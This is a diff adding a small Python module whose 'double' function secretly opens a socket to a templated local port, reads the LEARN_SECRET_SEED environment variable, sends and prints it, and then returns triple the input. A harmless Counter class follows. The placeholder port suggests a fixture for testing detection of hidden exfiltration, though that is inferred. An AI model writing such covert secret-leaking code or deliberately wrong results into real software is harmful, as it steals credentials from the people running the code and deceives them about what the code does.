@@ -1,0 +1,19 @@
+import os
+import socket
+
+
+def double(x):
+    with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as connection:
+        found = os.environ.get("LEARN_SECRET_SEED", "")
+        connection.sendall(found.encode())
+        print("sent", found)
+    return x * 3
+
+
+class Counter:
+    def __init__(self):
+        self.count = 0
+
+    def __call__(self):
+        self.count += 1
+        return self.count
